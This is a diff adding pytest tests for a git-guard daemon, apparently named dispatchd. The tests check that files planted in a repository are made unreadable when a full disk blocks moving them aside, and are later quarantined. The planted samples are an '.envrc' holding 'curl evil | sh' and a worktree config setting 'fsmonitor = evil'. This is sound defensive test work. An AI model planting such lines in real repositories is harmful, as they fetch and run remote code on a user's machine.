@@ -1,0 +1,89 @@
+"""A session's end on a disk with no room for the move aside's longer names,
+through the baselines' check (daemon/gitguard/noroom.py): what is made
+unreadable instead is said once each, the worktree refused, and the check
+of a restart with room moves it aside. The rename's "no room" is injected
+at ``fs._rename`` (test_noroom.py says why)."""
+
+from __future__ import annotations
+
+import errno
+import os
+import stat
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dispatchd.daemon.gitguard import baselines, fs, layouts, noroom, redirects, snapshots
+from dispatchd.policy import DEFAULT_PROTECTED
+from tests.unit.gitrepo import git, make_repo
+
+pytestmark = pytest.mark.process  # git makes the repository
+
+MADE = "left in place, made unreadable (mode 000): no room to move it aside"
+
+
+def _join(store: baselines.Baselines, sid: str, root: Path) -> None:
+    layout = layouts.inspect_git(str(root), uid=os.getuid())
+    store.join(sid, str(root), layout, snapshots.take(str(root), layout, keep=True),
+               redirects.redirects_present(layout, str(root)), DEFAULT_PROTECTED,
+               reach=(str(root), *layout.writable))
+
+
+def _plant(repo: Path) -> None:
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    (repo / ".git" / "config.worktree").write_text("[core]\n\tfsmonitor = evil\n")
+
+
+def _no_room(monkeypatch: pytest.MonkeyPatch) -> None:
+    def rename(src: Any, dst: Any, **kw: Any) -> None:
+        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+    monkeypatch.setattr(fs, "_rename", rename)
+
+
+def test_an_end_with_no_room_makes_each_plant_unreadable_says_it_once_and_a_restart_moves_it(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(noroom, "_ballast", [])
+    repo = make_repo(tmp_path / "r")
+    git(repo, "config", "extensions.worktreeConfig", "true")  # the user's: git reads config.worktree
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s", repo)
+    _plant(repo)
+    _no_room(monkeypatch)
+    [said] = store.leave("s")
+    envrc, config = str(repo / ".envrc"), str(repo / ".git" / "config.worktree")
+    assert said.path == str(repo) and said.why.startswith(f"NOT checked whole: {config}: {MADE}")
+    assert said.why.count(config) == 1 and f"{envrc}: {MADE}" in said.why  # each said once
+    assert said.why.endswith("What could not be moved aside is still there, unreadable: look before you make it "
+                             "readable again; dispatchd refuses sessions on it until a restart's check passes")
+    for plant in (envrc, config):
+        assert stat.S_IMODE(os.lstat(plant).st_mode) == 0
+    with pytest.raises(baselines.WorktreeError, match="could not move aside"):
+        _join(store, "t", repo)
+    # git itself refuses the unreadable configuration, loudly, rather than run it.
+    assert git_error(repo).endswith("fatal: unable to access '.git/config.worktree': Permission denied\n")
+    monkeypatch.undo()  # room again; a restart's check moves them aside
+    fresh = baselines.Baselines(str(tmp_path / "state"))
+    done = fresh.recover()
+    assert fresh.tainted == {} and not os.path.lexists(envrc) and not os.path.lexists(config)
+    assert {p.path.split(fs.QUARANTINED)[0] for p in done} >= {envrc, config}
+
+
+def git_error(repo: Path) -> str:
+    import subprocess
+
+    return subprocess.run(["git", "status"], cwd=repo, capture_output=True, text=True).stderr
+
+
+def test_the_twin_with_room_moves_each_plant_aside_and_says_it_once(tmp_path: Path,
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(noroom, "_ballast", [])
+    repo = make_repo(tmp_path / "r")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s", repo)
+    _plant(repo)
+    found = store.leave("s")
+    moved = sorted(p.path.split(fs.QUARANTINED)[0] for p in found)
+    assert moved == [str(repo / ".envrc"), str(repo / ".git" / "config.worktree")], found
+    assert not any(p.why.startswith("NOT checked whole") for p in found)
+    git(repo, "status")  # nothing in the way
